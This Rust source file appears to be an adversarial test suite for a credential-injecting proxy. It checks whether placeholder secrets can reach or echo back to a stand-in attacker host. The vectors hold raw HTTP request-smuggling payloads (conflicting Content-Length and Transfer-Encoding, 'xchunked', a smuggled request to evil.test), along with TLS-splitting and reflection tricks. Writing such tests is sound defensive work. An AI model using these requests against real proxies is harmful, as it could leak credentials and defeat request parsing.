//! Where a secret must not go, and how it could come back.

use serde_json::{Value, json};

use super::vector;
use crate::adversary::{
    ground::EVIL,
    vector::{Group, Vector},
};

const SERVED: &str = "the group's vectors in which the secret arrives show that it could";
const HEAD: &str = "Host: mirror.example\r\n";
const BEARER: &str = "Authorization: Bearer openshell:resolve:env:KEY\r\n";
const TEXT: &str = "a placeholder where nothing is bound stays the text that it is";

fn release(name: &str, tries: &'static str, with: Value) -> Vector {
    vector(Group::Release, name, tries, "exchange", move |_| {
        let mut with = with.clone();
        with["to"] = json!(EVIL);
        with
    })
    .without_control(SERVED)
}

/// A request for mirror.example that has this beside its Host.
fn get(name: &str, tries: &'static str, target: &str, lines: &str) -> Vector {
    let request = format!("GET {target} HTTP/1.1\r\n{HEAD}{lines}\r\n");
    release(name, tries, json!({ "request": request }))
}

fn post(name: &str, tries: &'static str, lines: &str, body: &str) -> Vector {
    let length = body.len();
    let request = format!("POST / HTTP/1.1\r\n{HEAD}{lines}Content-Length: {length}\r\n\r\n{body}");
    release(name, tries, json!({ "request": request }))
}

pub(super) fn vectors() -> Vec<Vector> {
    let mut all = places();
    all.extend(splits());
    all.extend(framing());
    all.extend(reflection());
    all
}

fn places() -> Vec<Vector> {
    const P: &str = "openshell:resolve:env:KEY";
    let stays = |vector: Vector| vector.silent(&["status 200"], TEXT);
    vec![
        get("bound", "at its place: the secret arrives", "/", BEARER)
            .silent(&["status 200"], "nothing is refused")
            .released(),
        get("bound-basic", "as the password of Basic", "/", "Authorization: Basic dTpvcGVuc2hlbGw6cmVzb2x2ZTplbnY6S0VZ\r\n")
            .silent(&["status 200"], "nothing is refused")
            .released(),
        stays(get("query", "in the query", &format!("/?key={P}"), "")),
        stays(get("path", "in the path", &format!("/{P}/x"), "")),
        stays(get("path-encoded", "in the path, percent-encoded", "/openshell%3Aresolve%3Aenv%3AKEY", "")),
        stays(get("cookie", "in a cookie", "/", &format!("Cookie: session={P}\r\n"))),
        stays(get("other-header", "in another header", "/", &format!("X-Api-Key: {P}\r\n"))),
        stays(get("header-name", "in a header's name", "/", "openshell-resolve-env-KEY: x\r\n")),
        stays(get("user-agent", "in User-Agent, which servers log", "/", &format!("User-Agent: {P}\r\n"))),
        stays(get("referer", "in Referer", "/", &format!("Referer: https://mirror.example/{P}\r\n"))),
        stays(get("echoed-header", "in headers that servers repeat", "/", &format!("Idempotency-Key: {P}\r\nLast-Event-ID: {P}\r\n"))),
        stays(get("protocol", "in Sec-WebSocket-Protocol without an upgrade", "/", &format!("Sec-WebSocket-Protocol: {P}\r\n"))),
        stays(post("body-text", "in a body of text", "Content-Type: text/plain\r\n", P)),
        stays(post("body-json", "in a body of JSON", "Content-Type: application/json\r\n", &format!("{{\"key\":\"{P}\"}}"))),
        stays(post("body-form", "in a form", "Content-Type: application/x-www-form-urlencoded\r\n", &format!("key={P}"))),
        stays(post("body-multipart", "in a multipart form's file name", "Content-Type: multipart/form-data; boundary=b\r\n", &format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{P}\"\r\n\r\nx\r\n--b--\r\n"))),
        release("other-host", "at its place, towards an allowed host that it is not bound to", json!({
            "sni": "unbound.example",
            "request": format!("GET / HTTP/1.1\r\nHost: unbound.example\r\n{BEARER}\r\n"),
        }))
        .refused(&["status 403 credential_endpoint_mismatch"], &["credential_endpoint_mismatch"]),
        get("other-secret", "another secret at the place where this host's is bound", "/", "Authorization: Bearer openshell:resolve:env:OTHER\r\n")
            .refused(&["status 403 credential_endpoint_mismatch"], &["credential_endpoint_mismatch"]),
        get("unknown-key", "a key that there is not", "/", "Authorization: Bearer openshell:resolve:env:NOTHING\r\n")
            .refused(&["status 500 credential_unavailable"], &["credential_unavailable"]),
        get("longer-key", "a key that begins like one that there is", "/", "Authorization: Bearer openshell:resolve:env:KEY_2\r\n")
            .refused(&["status 500 credential_unavailable"], &["credential_unavailable"]),
        get("two-words", "beside another word", "/", &format!("Authorization: Bearer {P} {P}\r\n"))
            .refused(&["status 500 credential_unavailable"], &["credential_unavailable"]),
        get("twice", "the header twice", "/", &format!("{BEARER}{BEARER}"))
            .silent(&["status 200"], "each is at its place")
            .released(),
        vector(Group::Release, "plain", "at its place over plain HTTP, towards a host that it is bound to", "plain", |_| {
            json!({"to": EVIL, "request": format!("GET / HTTP/1.1\r\nHost: plain.example\r\n{BEARER}\r\n")})
        })
        .without_control(SERVED)
        .silent(&["status 200"], "the request is allowed, and its placeholder stays"),
    ]
}

fn splits() -> Vec<Vector> {
    let request = format!("GET / HTTP/1.1\r\n{HEAD}{BEARER}\r\n");
    let mut all = Vec::new();
    for (name, tries, pieces) in [
        (
            "split-1",
            "at its place, one byte in each TLS record: the secret arrives",
            1,
        ),
        (
            "split-7",
            "at its place, 7 bytes in each record: the secret arrives",
            7,
        ),
        (
            "split-40",
            "at its place, cut inside the placeholder: the secret arrives",
            60,
        ),
    ] {
        all.push(
            release(
                name,
                tries,
                json!({"request": request, "pieces": pieces, "pause": 0.001}),
            )
            .silent(&["status 200"], "nothing is refused")
            .released(),
        );
    }
    let body = "openshell:resolve:env:KEY".as_bytes().iter();
    let chunks: String = body
        .map(|byte| format!("1\r\n{}\r\n", char::from(*byte)))
        .collect();
    all.push(
        release("split-chunks", "in a body, one byte in each chunk", json!({
                "sni": "site.example",
            "request": format!("POST /echo HTTP/1.1\r\nHost: site.example\r\nConnection: close\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}0\r\n\r\n"),
        }))
        .silent(&["status 200"], TEXT),
    );
    all
}

/// A handful: the suites of smuggling and of frames have the rest.
fn framing() -> Vec<Vector> {
    let smuggled = format!("GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n{BEARER}\r\n");
    let length = smuggled.len();
    let malformed = |name: &str, tries: &'static str, lines: &str, body: &str| {
        let request = format!("POST / HTTP/1.1\r\n{HEAD}{BEARER}{lines}\r\n{body}");
        release(name, tries, json!({ "request": request }))
            .refused(&["status 400 malformed_request"], &["malformed_request"])
    };
    vec![
        malformed("length-and-chunks", "Content-Length and Transfer-Encoding", &format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n"), &format!("0\r\n\r\n{smuggled}")),
        malformed("two-lengths", "two Content-Lengths", &format!("Content-Length: 0\r\nContent-Length: {length}\r\n"), &smuggled),
        malformed("odd-coding", "a Transfer-Encoding that only some take for chunked", "Transfer-Encoding: xchunked\r\n", &format!("0\r\n\r\n{smuggled}")),
        malformed("space-before-colon", "a space before the colon", &format!("Content-Length : {length}\r\n"), &smuggled),
        malformed("folded", "a folded header", "X-Folded: a\r\n b\r\nContent-Length: 0\r\n", ""),
        malformed("plus-length", "a Content-Length with a sign", &format!("Content-Length: +{length}\r\n"), &smuggled),
        release("bare-newlines", "lines that end with a newline alone", json!({
            "request": format!("GET / HTTP/1.1\nHost: mirror.example\nAuthorization: Bearer openshell:resolve:env:KEY\n\n"),
        }))
        .refused(&["status 400 malformed_request"], &["malformed_request"]),
        release("smuggled-host", "a second request inside the first one's end, for another host", json!({
            "sni": "site.example",
            "request": format!("POST /echo HTTP/1.1\r\nHost: site.example\r\nContent-Length: 0\r\n\r\n{smuggled}"),
        }))
        .refused(&["status 200 authority_mismatch"], &["authority_mismatch"]),
        release("h2c", "an upgrade to h2c: the server, which repeats what it gets, is not asked for it", json!({
            "request": format!("GET / HTTP/1.1\r\n{HEAD}{BEARER}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
            "look_for": "h2c",
        }))
        .silent(&["status 200 without h2c"], "a server need not know a protocol")
        .released(),
    ]
}

fn reflection() -> Vec<Vector> {
    let back = "nothing is refused: what comes back is the placeholder again";
    vec![
        get("back-in-body", "the server repeats the head that it got", "/", BEARER)
            .silent(&["status 200"], back)
            .released(),
        get("back-in-header", "the server repeats a header beside it", "/", &format!("{BEARER}X-Comment: openshell:resolve:env:KEY\r\n"))
            .silent(&["status 200"], back)
            .released(),
        get("back-in-gzip", "the server repeats the head compressed", "/", &format!("{BEARER}X-Coded: gzip\r\nAccept-Encoding: gzip\r\n"))
            .silent(&["status 200"], back)
            .released(),
        get("back-in-base64", "the server repeats the head in base64", "/", &format!("{BEARER}X-Coded: base64\r\n"))
            .silent(&["status 200"], back)
            .released(),
        message("back-in-message", "the server repeats the head in a WebSocket message", "nothing"),
        message("bound-message", "at its place in a message, which the server sends back", "openshell:resolve:env:KEY"),
        vector(Group::Release, "back-over-h2", "the same over HTTP/2 from a server of HTTP/1.1", "over-h2", |_| {
            json!({"sni": "mirror.example", "to": EVIL, "streams": [{"fields": [
                [":method", "GET"], [":scheme", "https"], [":path", "/"], [":authority", "mirror.example"],
                ["authorization", "Bearer openshell:resolve:env:KEY"],
            ]}]})
        })
        .without_control(SERVED)
        .silent(&["status 200"], back)
        .released(),
    ]
}

/// A WebSocket whose handshake has the placeholder at its place, and its first message perhaps too.
fn message(name: &str, tries: &'static str, token: &'static str) -> Vector {
    let message = format!("{{\"type\":\"auth\",\"token\":\"{token}\"}}");
    vector(
        Group::Release,
        name,
        tries,
        "websocket",
        move |_| json!({"sni": "mirror.example", "to": EVIL, "message": message}),
    )
    .without_control(SERVED)
    .silent(
        &["2 messages come back"],
        "nothing is refused: what comes back is the placeholder again",
    )
    .released()
}
